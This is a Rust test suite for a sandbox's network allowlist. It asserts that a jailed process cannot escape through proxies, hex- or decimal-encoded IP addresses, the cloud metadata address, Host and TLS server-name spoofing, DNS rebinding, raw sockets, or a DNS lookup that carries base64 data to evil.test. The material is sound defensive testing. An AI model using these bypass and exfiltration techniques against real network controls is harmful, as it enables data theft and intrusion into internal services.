//! What is not granted is not reached, by any way, and no packet of it leaves.

use super::{Jail, PLAIN};
use crate::support::{Who, need};

/// Every way that a program has, as a script that prints `reached` where it got through.
pub fn ways(host: &str) -> Vec<(&'static str, String)> {
    let get = "curl -sS -m 5 -o /dev/null -f";
    vec![
        (
            "transparent, plain",
            format!("{PLAIN} {get} http://{host}/"),
        ),
        (
            "transparent, TLS",
            format!("{PLAIN} {get} -k https://{host}/"),
        ),
        ("absolute form", format!("{get} http://{host}/")),
        ("CONNECT", format!("{get} -k https://{host}/")),
        (
            "SOCKS5",
            format!("{get} -k --proxy $ALL_PROXY https://{host}/"),
        ),
        (
            "by the public address",
            format!("{PLAIN} {get} -k --resolve {host}:443:93.184.216.34 https://{host}/"),
        ),
    ]
}

fn none_reaches(jail: &Jail, host: &str) {
    for (way, script) in ways(host) {
        let ran = jail.sh(&format!("{script} && echo reached"));
        assert!(!ran.stdout.contains("reached"), "{host}, {way}: {ran:#?}");
    }
    assert_eq!(jail.outside.connections(), [], "{host}");
}

#[test]
fn an_empty_or_absent_list_allows_nothing() {
    need("curl");
    for network in [
        "mode = \"allowlist\"",
        "mode = \"allowlist\"\nallow = []",
        "mode = \"none\"",
    ] {
        let Some(jail) = Jail::new(Who::Root, network) else {
            return;
        };
        none_reaches(&jail, "web.test");
        assert_eq!(jail.outside.questions(), Vec::<String>::new(), "{network}");
    }
}

#[test]
fn only_the_named_host_by_whole_labels() {
    let Some(jail) = Jail::new(
        Who::Root,
        "mode = \"allowlist\"\nallow = [\"web.test\", \"*.wild.test\"]",
    ) else {
        return;
    };
    for host in [
        "other.test",
        "evilweb.test",
        "web.test.evil.test",
        "wild.test",
    ] {
        none_reaches(&jail, host);
    }
    assert_eq!(
        jail.outside.questions(),
        Vec::<String>::new(),
        "no name leaves"
    );
    // The controls.
    for host in ["web.test", "WEB.test.", "a.wild.test"] {
        let ran = jail.sh(&format!(
            "{PLAIN} curl -sS -m 5 -f -k https://{host}/ && echo reached"
        ));
        assert!(ran.stdout.ends_with("reached\n"), "{host}: {ran:#?}");
    }
    assert_eq!(jail.outside.connections().len(), 3);
}

#[test]
fn a_denial_wins_over_a_wildcard() {
    let network =
        "mode = \"allowlist\"\nallow = [\"*.wild.test\", \"web.test\"]\ndeny = [\"a.wild.test\"]";
    let Some(jail) = Jail::new(Who::User, network) else {
        return;
    };
    none_reaches(&jail, "a.wild.test");
    let ran = jail.sh(&format!(
        "{PLAIN} curl -sS -m 5 -f -k https://web.test/ && echo reached"
    ));
    assert!(ran.stdout.ends_with("reached\n"), "{ran:#?}");
}

#[test]
fn addresses_in_every_spelling_are_refused() {
    let Some(jail) = Jail::new(Who::Root, "mode = \"allowlist\"\nallow = [\"web.test\"]") else {
        return;
    };
    for host in [
        "93.184.216.34",
        "127.0.0.53",
        "169.254.169.254",
        "0x5db8d822",
        "1572395042",
        "[::ffff:93.184.216.34]",
        "[64:ff9b::5db8:d822]",
        "0.0.0.0",
    ] {
        for (way, script) in [
            ("absolute form", format!("curl -sS -m 5 -f http://{host}/")),
            ("CONNECT", format!("curl -sS -m 5 -f -k https://{host}/")),
            (
                "SOCKS5",
                format!("curl -sS -m 5 -f -k --proxy $ALL_PROXY https://{host}/"),
            ),
            (
                "transparent",
                format!("{PLAIN} curl -sS -m 5 -f -k https://{host}/"),
            ),
        ] {
            let ran = jail.sh(&format!(
                "unset no_proxy NO_PROXY; {script} && echo reached"
            ));
            assert!(!ran.stdout.contains("reached"), "{host}, {way}: {ran:#?}");
        }
    }
    assert_eq!(jail.outside.connections(), []);
}

#[test]
fn an_answer_that_turns_private_is_not_dialled() {
    let Some(jail) = Jail::new(Who::Root, "mode = \"allowlist\"\nallow = [\"web.test\"]") else {
        return;
    };
    let get = format!("{PLAIN} curl -sS -m 5 -f -k https://web.test/ && echo reached");
    for address in [
        "127.0.0.1",
        "10.0.0.1",
        "169.254.169.254",
        "::ffff:10.0.0.1",
        "fd00::1",
        "64:ff9b::a00:1",
    ] {
        jail.outside
            .lead("web.test", &[address.parse().expect("an address")]);
        let ran = jail.sh(&get);
        assert!(!ran.stdout.contains("reached"), "{address}: {ran:#?}");
    }
    assert_eq!(jail.outside.connections(), []);
    jail.outside
        .lead("web.test", &["93.184.216.34".parse().expect("an address")]);
    assert!(jail.sh(&get).stdout.ends_with("reached\n"));
}

#[test]
fn what_is_said_must_be_what_was_asked_for() {
    let Some(jail) = Jail::new(Who::Root, "mode = \"allowlist\"\nallow = [\"web.test\"]") else {
        return;
    };
    let to_web = "--connect-to ::web.test:";
    for (what, script) in [
        (
            "another server name",
            format!("{PLAIN} curl -sS -m 5 -f -k {to_web} https://other.test/"),
        ),
        (
            "another server name, CONNECT",
            format!("curl -sS -m 5 -f -k {to_web} https://other.test/"),
        ),
        (
            "another Host",
            format!("{PLAIN} curl -sS -m 5 -f -H 'Host: other.test' http://web.test/"),
        ),
        (
            "another Host, absolute form",
            "curl -sS -m 5 -f -H 'Host: other.test' http://web.test/".into(),
        ),
        (
            "no server name",
            format!(
                "{PLAIN} timeout 5 openssl s_client -noservername -connect web.test:443 </dev/null 2>/dev/null | grep -q 'BEGIN CERT'"
            ),
        ),
        (
            "no TLS at 443",
            format!("{PLAIN} curl -sS -m 5 -f http://web.test:443/"),
        ),
        (
            "TLS at 80",
            format!("{PLAIN} curl -sS -m 5 -f -k https://web.test:80/"),
        ),
    ] {
        let ran = jail.sh(&format!("{script} && echo reached"));
        assert!(!ran.stdout.contains("reached"), "{what}: {ran:#?}");
    }
    assert_eq!(jail.outside.requests(), Vec::<String>::new());
}

#[test]
fn raw_sockets_datagrams_and_other_ports_go_nowhere_at_once() {
    for who in Who::all() {
        let Some(jail) = Jail::new(who, "mode = \"allowlist\"\nallow = [\"web.test\"]") else {
            return;
        };
        let script = r#"
import os, socket, errno, time
def attempt(what, act):
    start = time.time()
    try:
        act(); print(what, 'REACHED')
    except OSError as e:
        slow = ' SLOW' if time.time() - start > 1 else ''
        print(what, errno.errorcode.get(e.errno, e) + slow)
def tcp(port):
    s = socket.socket(); s.settimeout(5); s.connect(('93.184.216.34', port))
def udp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.connect(('93.184.216.34', port)); s.send(b'x'); s.recv(10)
os.environ.clear()
attempt('port', lambda: tcp(22))
attempt('quic', lambda: udp(443))
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
attempt('ping', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\x08\0\xf7\xff\0\0\0\0', ('93.184.216.34', 0)))
"#;
        let ran = jail.python(script).ok();
        let said: Vec<&str> = ran.stdout.lines().collect();
        assert_eq!(said[0], "port ECONNREFUSED", "{who:?}");
        assert_eq!(said[1], "quic ECONNREFUSED", "{who:?}");
        assert!(
            ["raw EPERM", "raw EACCES"].contains(&said[2]),
            "{who:?}: {said:?}"
        );
        assert!(said[3].starts_with("packet E"), "{who:?}: {said:?}");
        assert!(said[4].starts_with("ping E"), "{who:?}: {said:?}");
        assert_eq!(jail.outside.connections(), [], "{who:?}");
        assert_eq!(jail.outside.questions(), Vec::<String>::new(), "{who:?}");
    }
}

#[test]
fn a_name_with_encoded_data_never_leaves() {
    let Some(jail) = Jail::new(Who::Root, "mode = \"allowlist\"\nallow = [\"web.test\"]") else {
        return;
    };
    let script = "import socket\n\
        for n in ['c2VjcmV0.evil.test', 'c2VjcmV0.web.test', 'evil.test', 'x' * 63 + '.evil.test']:\n\
        \x20   try: print(n, socket.getaddrinfo(n, 443))\n\
        \x20   except OSError as e: print('no')\n\
        print(socket.getaddrinfo('wEb.TeSt', 443)[0][4][0])";
    let ran = jail.python(script).ok();
    let said: Vec<&str> = ran.stdout.lines().collect();
    assert_eq!(said[..4], ["no"; 4], "{ran:#?}");
    assert!(
        said[4].starts_with("198.18.") || said[4].starts_with("fd63:"),
        "{ran:#?}"
    );
    assert_eq!(jail.outside.questions(), Vec::<String>::new());
}
